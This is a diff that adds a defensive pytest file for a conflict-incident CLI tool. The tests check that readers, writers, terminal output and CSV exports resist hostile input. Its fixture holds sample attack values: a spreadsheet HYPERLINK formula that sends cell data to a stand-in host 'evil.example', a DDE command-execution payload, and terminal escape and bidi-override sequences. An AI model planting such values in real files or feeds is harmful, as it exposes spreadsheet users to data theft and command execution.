@@ -1,0 +1,298 @@
+"""Hostile inputs driven through every CLI command: each ends in one line on stderr and exit 2 (never a
+traceback), readers stop at their size limit while reading, writers refuse bad output paths the same way
+and never create folders, terminal output escapes control characters and CSV cells cannot run as formulas.
+
+The catalogue is data (``HOSTILE_FILES``, ``BAD_OUTPUTS``, ``WRITERS``); a new reader or writer joins
+the matrix by adding one row.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import resource
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from geoinc.cli import main
+from geoinc.models import Incident, Source
+from geoinc.store.sqlite import open_store
+from geoinc.textio import neutralise_formula, restore_formula, terminal_safe
+
+ROOT = Path(__file__).resolve().parent.parent
+
+ESC_LOCATION = "Tower 22\x1b[2J\x1b]0;owned\x07\rFAKE"
+FORMULA_ACTOR = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def db(tmp_path_factory):
+    """A store holding normal rows and rows whose text is hostile (ESC sequences, CR, formulas, bidi)."""
+    path = tmp_path_factory.mktemp("hostile") / "h.sqlite"
+    s = open_store(path)
+    s.add_incidents([
+        Incident(event_id_cnty="JOR-T22", event_date="2024-01-28", event_type="Explosions/Remote violence",
+                 sub_event_type="Air/drone strike", actor1="Islamic Resistance in Iraq", country="Jordan",
+                 location="Tower 22", latitude=33.31, longitude=38.70, fatalities=3, country_code="JO"),
+        Incident(event_id_cnty="SYR-EVIL", event_date="2024-01-29", event_type="Battles",
+                 sub_event_type="Non-state actor overtakes territory", actor1=FORMULA_ACTOR,
+                 actor2="+cmd|' /C calc'!A0", country="Syria", location=ESC_LOCATION, latitude=33.5,
+                 longitude=-0.5, country_code="SY", notes="@SUM(1+1)\r\x1b[31mred\u202eevil",
+                 sources=[Source(article="a1", quote="quoted\x1b[2Jtext")]),
+    ])
+    s.close()
+    return str(path)
+
+
+def run(capsys, *argv: str) -> tuple[int, str, str]:
+    code = main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def assert_refused(code: int, err: str, *needles: str) -> None:
+    """Exit 2 and exactly one line on stderr naming the problem."""
+    assert code == 2, err
+    lines = [ln for ln in err.splitlines() if ln.strip()]
+    assert len(lines) == 1, err
+    assert "Traceback" not in err
+    for needle in needles:                                  # "a|b": either wording
+        assert any(alt in lines[0] for alt in needle.split("|")), lines[0]
+
+
+# --- readers: hostile files ----------------------------------------------------------------------------
+
+def _hostile_files(tmp: Path) -> dict[str, tuple[Path, str]]:
+    """name -> (file, a word the refusal must contain)."""
+    files = {
+        "elf binary": (Path("/bin/ls"), "binary"),
+        "latin-1 text": (tmp / "latin1.txt", "not UTF-8"),
+        "utf-16 text": (tmp / "utf16.txt", "binary"),
+        "folder": (tmp, "folder"),
+        "missing": (tmp / "absent.txt", "no such file|not found"),
+    }
+    (tmp / "latin1.txt").write_bytes("Deir ez-Zor, Syrie: café à Abou Kamal".encode("latin-1"))
+    (tmp / "utf16.txt").write_bytes("POLYGON((0 0,1 0,1 1,0 0))".encode("utf-16"))
+    return files
+
+
+READERS = {
+    "places": lambda f, db: ["places", str(f)],
+    "check": lambda f, db: ["check", str(f)],
+    "ingest": lambda f, db: ["ingest", str(f), "--published", "2024-01-01", "--db", db],
+    "import": lambda f, db: ["import", str(f), "--db", db],
+    "query --polygon": lambda f, db: ["query", "--polygon", str(f), "--db", db],
+    "map --polygon": lambda f, db: ["map", "--polygon", str(f), "-o", os.devnull, "--db", db],
+}
+
+
+@pytest.mark.parametrize("reader", sorted(READERS))
+def test_every_reader_refuses_every_hostile_file(reader, db, tmp_path, capsys):
+    for name, (path, word) in _hostile_files(tmp_path).items():
+        if reader == "ingest" and name == "folder":
+            continue                # a folder is a valid ingest input (its .txt/.md/.jsonl files are read)
+        code, out, err = run(capsys, *READERS[reader](path, db))
+        if reader == "ingest" and code == 2 and "skipped" in err:
+            err = "\n".join(ln for ln in err.splitlines() if ln.startswith("geoinc ingest: skipped"))
+        assert_refused(code, err, word)
+
+
+STREAMS = [("ingest", "/dev/zero"), ("import", "/dev/zero"), ("ingest", "/dev/urandom"),
+           ("import", "/dev/urandom"), ("query --polygon", "/dev/zero"), ("map --polygon", "/dev/urandom")]
+
+
+def _limit_memory() -> None:
+    """Children get 1.5 GiB of address space: reading without a bound ends in MemoryError, not a dead host."""
+    resource.setrlimit(resource.RLIMIT_AS, (1536 * 1024 * 1024, 1536 * 1024 * 1024))
+
+
+@pytest.mark.parametrize("reader, device", STREAMS)
+def test_endless_devices_are_refused_within_the_limit(reader, device, db, tmp_path):
+    argv = READERS[reader](device, str(tmp_path / "s.sqlite") if reader in ("ingest", "import") else db)
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    proc = subprocess.run([sys.executable, "-m", "geoinc", *argv], capture_output=True, text=True, timeout=120,
+                          env=env, preexec_fn=_limit_memory)
+    assert proc.returncode == 2, proc.stderr[-2000:]
+    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr
+    assert "binary" in proc.stderr or "larger than" in proc.stderr
+
+
+def test_an_endless_text_stream_stops_at_the_limit(tmp_path):
+    """No NUL byte to stop early: the import limit (128 MB) is enforced while reading a pipe."""
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    yes = subprocess.Popen(["yes", "2024-01-01,Tower 22"], stdout=subprocess.PIPE)
+    try:
+        proc = subprocess.run([sys.executable, "-m", "geoinc", "import", "/dev/stdin", "--db",
+                               str(tmp_path / "s.sqlite")], stdin=yes.stdout, capture_output=True, text=True,
+                              timeout=120, env=env, preexec_fn=_limit_memory)
+    finally:
+        yes.kill()
+        yes.wait()
+    assert proc.returncode == 2 and "larger than 128 MB" in proc.stderr, proc.stderr[-2000:]
+
+
+def test_jsonl_is_streamed_line_by_line(tmp_path, capsys):
+    """A JSONL feed is read one line at a time; a line past the article limit is refused by number."""
+    feed = tmp_path / "feed.jsonl"
+    with open(feed, "w", encoding="utf-8") as fh:
+        fh.write(json.dumps({"text": "Clashes near Palmyra killed two.", "published": "2024-03-05"}) + "\n")
+        fh.write('{"text": "' + "a" * (11 * 1024 * 1024) + '"}\n')
+    code, out, err = run(capsys, "ingest", str(feed), "--db", str(tmp_path / "s.sqlite"))
+    assert code == 2 and "line 2 of" in err and "larger than 10 MB" in err
+
+
+# --- polygons: one validation for every command ---------------------------------------------------------
+
+UNCLOSED = [
+    '{"type": "Polygon", "coordinates": [[[38, 33], [39, 33], [39, 34], [38, 34]]]}',
+    '{"type": "Feature", "properties": {}, "geometry": {"type": "MultiPolygon", "coordinates": '
+    '[[[[38, 33], [39, 33], [39, 34], [38, 33]]], [[[40, 33], [41, 33], [41, 34]]]]}}',
+    "POLYGON((38 33, 39 33, 39 34, 38 34))",
+]
+
+
+@pytest.mark.parametrize("text", UNCLOSED)
+@pytest.mark.parametrize("command", ["query", "map"])
+def test_unclosed_rings_are_refused_inline_and_from_files(command, text, db, tmp_path, capsys):
+    f = tmp_path / "area.txt"
+    f.write_text(text, encoding="utf-8")
+    extra = ["-o", str(tmp_path / "m.html")] if command == "map" else []
+    for value in (text, str(f)):
+        code, _, err = run(capsys, command, "--polygon", value, "--db", db, *extra)
+        assert_refused(code, err, "ring is not closed")
+    assert not (tmp_path / "m.html").exists()
+
+
+def test_a_closed_ring_is_accepted(db, tmp_path, capsys):
+    code, out, _ = run(capsys, "query", "--polygon",
+                       '{"type": "Polygon", "coordinates": [[[38, 33], [39, 33], [39, 34], [38, 34], [38, 33]]]}',
+                       "--db", db)
+    assert code == 0 and "JOR-T22" in out
+
+
+# --- writers: one rule for bad output paths -------------------------------------------------------------
+
+WRITERS = {
+    "query -o csv": lambda p, db: ["query", "--format", "csv", "-o", p, "--db", db],
+    "query -o geojson": lambda p, db: ["query", "--format", "geojson", "-o", p, "--db", db],
+    "query -o acled-csv": lambda p, db: ["query", "--format", "acled-csv", "-o", p, "--db", db],
+    "query --map": lambda p, db: ["query", "--map", p, "--db", db],
+    "map -o": lambda p, db: ["map", "-o", p, "--db", db],
+    "map --embed -o": lambda p, db: ["map", "--embed", "-o", p, "--db", db],
+    "map --png": lambda p, db: ["map", "--png", p, "--db", db],
+    "export acled-csv": lambda p, db: ["export", "--format", "acled-csv", "-o", p, "--db", db],
+    "export geojson": lambda p, db: ["export", "--format", "geojson", "-o", p, "--db", db],
+    "export gpkg": lambda p, db: ["export", "--format", "gpkg", "-o", p, "--db", db],
+}
+
+
+def _bad_outputs(tmp: Path) -> dict[str, tuple[str, str]]:
+    """name -> (output path, a word the refusal must contain)."""
+    (tmp / "a-file").write_text("x", encoding="utf-8")
+    return {
+        "a folder": (str(tmp), "is a folder"),
+        "missing folder": (str(tmp / "nonexistent" / "deeper" / "x.out"), "no such folder"),
+        "parent is a file": (str(tmp / "a-file" / "x.out"), "not a folder"),
+        "/proc": ("/proc/geoinc-x.out", "cannot write"),
+        "/sys": ("/sys/geoinc-x.out", "cannot write"),
+        "empty": ("", "empty file name|say where to write"),
+    }
+
+
+@pytest.mark.parametrize("writer", sorted(WRITERS))
+def test_every_writer_refuses_every_bad_output_path(writer, db, tmp_path, capsys):
+    for name, (path, word) in _bad_outputs(tmp_path).items():
+        code, out, err = run(capsys, *WRITERS[writer](path, db))
+        assert_refused(code, err, word)
+    assert not (tmp_path / "nonexistent").exists()          # no folder was created on the way
+
+
+def test_writers_still_write_into_existing_folders(db, tmp_path, capsys):
+    for name, make in WRITERS.items():
+        if name == "map --png":
+            continue                                         # needs Chromium: tests/test_maps_browser.py
+        target = tmp_path / (name.replace(" ", "_").replace("-", "") + ".out")
+        code, _, err = run(capsys, *make(str(target), db))
+        assert code == 0 and target.stat().st_size > 0, (name, err)
+
+
+# --- terminal output: control characters from imported data ---------------------------------------------
+
+def test_incidents_list_and_show_escape_control_characters(db, capsys):
+    code, out, _ = run(capsys, "incidents", "list", "--db", db)
+    assert code == 0 and "\x1b" not in out and "\r" not in out and "\x07" not in out
+    assert "Tower 22\\x1b[2J" in out
+    code, out, _ = run(capsys, "incidents", "show", "SYR-EVIL", "--db", db)
+    assert code == 0 and "\x1b" not in out and "\r" not in out and "\u202e" not in out
+    assert "@SUM(1+1)\\r\\x1b[31mred\\u202eevil" in out and "quoted\\x1b[2Jtext" in out
+    for argv in (("incidents", "list", "--json"), ("incidents", "show", "SYR-EVIL", "--json")):
+        code, out, _ = run(capsys, *argv, "--db", db)
+        assert code == 0 and "\x1b" not in out and "\u202e" not in out
+        first = json.loads(out.splitlines()[0] if argv[1] == "list" else out)
+        assert isinstance(first, dict)                       # still valid JSON, same data
+    code, out, _ = run(capsys, "incidents", "show", "SYR-EVIL", "--json", "--db", db)
+    assert json.loads(out)["location"] == ESC_LOCATION
+
+
+def test_terminal_safe_examples():
+    assert terminal_safe("a\x1b[31mb") == "a\\x1b[31mb"
+    assert terminal_safe("a\rb\nc\x85") == "a\\rb\\nc\\x85"
+    assert terminal_safe("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"
+    assert terminal_safe("x\u202ey") == "x\\u202ey"
+    assert terminal_safe("Dayr az-Zawr، سوريا") == "Dayr az-Zawr، سوريا"
+
+
+# --- CSV exports: formula injection -----------------------------------------------------------------------
+
+@pytest.mark.parametrize("value, safe", [
+    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-5", "1e-5"),
+    ("'Aqrabat", "'Aqrabat"), ("Tower 22", "Tower 22"), ("", ""),
+])
+def test_neutralise_formula_examples_round_trip(value, safe):
+    assert neutralise_formula(value) == safe
+    assert restore_formula(safe) == value
+    assert neutralise_formula(-5.25) == -5.25 and neutralise_formula(None) is None
+
+
+def _dangerous_cells(text: str) -> list[str]:
+    bad = []
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell):
+                bad.append(cell)
+    return bad
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+def test_csv_exports_neutralise_formulas_and_round_trip(db, tmp_path, capsys):
+    out_csv = tmp_path / "e.csv"
+    assert run(capsys, "export", "--format", "acled-csv", "-o", str(out_csv), "--db", db)[0] == 0
+    exported = out_csv.read_text(encoding="utf-8")
+    texts = [exported]
+    for fmt in ("csv", "acled-csv"):
+        code, out, _ = run(capsys, "query", "--format", fmt, "--db", db)
+        assert code == 0
+        texts.append(out)
+    for text in texts:
+        assert _dangerous_cells(text) == []
+        rows = list(csv.DictReader(io.StringIO(text)))
+        evil = next(r for r in rows if r["event_id_cnty"] == "SYR-EVIL")
+        assert evil["actor1"] == "'" + FORMULA_ACTOR and evil["longitude"] == "-0.5"
+    other = str(tmp_path / "back.sqlite")
+    code, out, err = run(capsys, "import", str(out_csv), "--db", other)
+    assert code == 0, err
+    with open_store(other) as s:
+        back = {i.event_id_cnty: i for i in s.iter_incidents()}
+    assert back["SYR-EVIL"].actor1 == FORMULA_ACTOR and back["SYR-EVIL"].notes.startswith("@SUM")
